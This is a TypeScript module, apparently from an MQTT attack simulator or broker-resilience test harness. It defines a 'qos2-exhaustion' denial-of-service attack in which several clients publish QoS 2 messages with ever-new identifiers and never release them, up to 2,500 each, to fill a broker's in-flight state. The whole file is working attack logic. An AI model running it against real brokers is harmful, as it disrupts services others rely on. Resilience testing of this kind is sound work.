// Promises of QoS 2 that are never kept.

import type { Attack } from '../attacker.js'
import { connectPacket, publishPacket } from '../packets.js'
import { TOPIC_WORDS } from './words.js'

/** Promises never kept. */
export const qos2Exhaustion: Attack = {
  name: 'qos2-exhaustion',
  summary:
    'QoS 2 in-flight exhaustion: 3 to 5 addresses publish at QoS 2 with identifier after identifier and never release one, 100 a second each, up to 2,500',
  attackers: [3, 5],
  async run(attacker) {
    const { chance } = attacker
    const clientId = chance.text(14)
    const topic = `${chance.oneOf(TOPIC_WORDS)}/${chance.oneOf(TOPIC_WORDS)}`
    let id = 0
    while (id < 2_500 && !attacker.over) {
      const socket = await attacker.connect()
      if (socket === null) return
      await attacker.send(socket, connectPacket({ clientId, clean: false, keepalive: 0 }))
      while (id < 2_500 && !socket.destroyed) {
        const payload = chance.text(chance.whole(2, 40))
        attacker.note(clientId, topic, payload)
        if (!(await attacker.send(socket, publishPacket(topic, payload, { qos: 2, id: ++id })))) break
        await attacker.pause(chance.between(5, 15))
      }
      await attacker.pause(1_000)
    }
    await attacker.pause(3_600_000)
  }
}
